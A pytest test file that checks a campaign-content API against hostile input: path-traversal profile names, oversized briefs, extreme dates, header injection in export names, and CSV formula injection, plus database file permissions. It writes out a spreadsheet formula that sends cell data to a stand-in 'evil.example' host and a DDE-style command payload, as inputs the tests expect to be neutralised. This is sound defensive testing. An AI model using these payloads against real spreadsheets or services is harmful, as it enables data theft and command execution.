"""What an attacker or a careless integrator sends the API: profiles, huge briefs, odd dates, names that
are formulas, and what the database file and the API leave readable."""

import csv
import io
import os
import stat

import pytest
import yaml

from tests.helpers.api import auth, client, db_url, keys, seed_asset, seed_campaign  # noqa: F401


@pytest.fixture(scope="module")
def brief():
    with open("examples/campaign.yaml", encoding="utf-8") as f:
        data = yaml.safe_load(f)
    data["publish_dates"] = [str(d) for d in data["publish_dates"]]
    return data


@pytest.mark.parametrize("profile", ["../../examples/campaign", "/etc/passwd", "tiny/../tiny", "no-such-profile"])
def test_only_known_profile_names_are_accepted(client, keys, brief, profile):
    r = client.post("/v1/campaigns", params={"profile": profile}, json=brief, headers=auth(keys["write"]))
    assert r.status_code == 422, r.text
    assert r.json()["errors"][0]["field"] == "query.profile" and "tiny" in r.json()["fix"]
    assert os.getcwd() not in r.text and "/models" not in r.text and "campaign:" not in r.text


def test_a_brief_with_thousands_of_asset_specs_is_refused(client, keys, brief):
    huge = {**brief, "assets": [{"kind": "copy", "channel": "instagram"}] * 5000}
    r = client.post("/v1/campaigns", json=huge, headers=auth(keys["write"]))
    assert r.status_code == 422
    assert r.json()["errors"][0]["field"] == "assets" and "at most" in r.json()["errors"][0]["message"]


def test_a_brief_that_plans_too_many_assets_is_refused(client, keys, brief):
    many = {**brief, "locales": ["en-US", "de-DE", "fr-FR", "ja-JP", "ar-SA"],
            "assets": [{"kind": "copy", "channel": "instagram", "variants": 10}] * 50}
    r = client.post("/v1/campaigns", json=many, headers=auth(keys["write"]))
    assert r.status_code == 422 and "2500 assets" in r.json()["detail"]


@pytest.mark.parametrize("field,value", [("campaign", "x" * 500_000), ("brand", "b" * 1000),
                                         ("key_messages", ["m"] * 500), ("tone", "t" * 5000)])
def test_long_strings_and_lists_in_a_brief_are_refused(client, keys, brief, field, value):
    r = client.post("/v1/campaigns", json={**brief, field: value}, headers=auth(keys["write"]))
    assert r.status_code == 422, r.status_code
    assert r.json()["errors"][0]["field"].startswith(field) and "at most" in r.json()["errors"][0]["message"]


@pytest.mark.parametrize("since", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
def test_updated_since_at_the_edge_of_time_is_422_not_500(client, keys, since):
    r = client.get("/v1/assets", params={"updated_since": since}, headers=auth(keys["read"]))
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "query.updated_since"


@pytest.mark.parametrize("fmt", ["xliff", "csv", "jsonl", "vtt"])
def test_export_of_a_campaign_with_a_huge_name_works(client, keys, db_url, fmt):
    # Longer than any header or file name may be, and as long as Postgres can index (the brief caps
    # names at 200 characters; this row is written directly, as an older database may hold it).
    name = f"N{fmt}" * 300 + "\"; evil=\""
    camp = seed_campaign(db_url, name)
    script = {"title": "t", "scenes": [{"duration_s": 2, "visual": "v", "voiceover": "Hallo", "on_screen_text": ""}]}
    seed_asset(db_url, camp, kind="video_script", channel="tiktok", script=script, text="")
    r = client.get("/v1/exports", params={"campaign": camp, "format": fmt, "status": "any"}, headers=auth(keys["read"]))
    assert r.status_code == 200, r.text[:300]
    assert len(r.headers["content-disposition"]) < 300 and "evil" not in r.headers["content-disposition"]


def test_csv_export_neutralises_formulas(client, keys, db_url):
    camp = seed_campaign(db_url, '=HYPERLINK("https://evil.example/?"&A1,"Click")')
    for text in ("+49 cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "Normal text"):
        seed_asset(db_url, camp, text=text, variant=hash(text) % 10_000 + 1)
    r = client.get("/v1/exports", params={"campaign": camp, "format": "csv", "status": "any"}, headers=auth(keys["read"]))
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and all(not row["campaign"].startswith("=") for row in rows)
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    assert {row["text"] for row in rows} >= {"'+49 cmd|' /C calc'!A0", "Normal text"}  # kept, made inert


def test_database_file_is_private_to_its_owner(tmp_path):
    from studio.store.database import get_sql_engine, session_scope
    from studio.store.tables import User

    url = f"sqlite:///{tmp_path / 'fresh' / 'studio.db'}"
    with session_scope(url) as s:
        s.add(User(name="x", role="reviewer", password_hash="h"))
    get_sql_engine(url).dispose()
    for path in (tmp_path / "fresh").iterdir():
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, (path.name, oct(path.stat().st_mode))
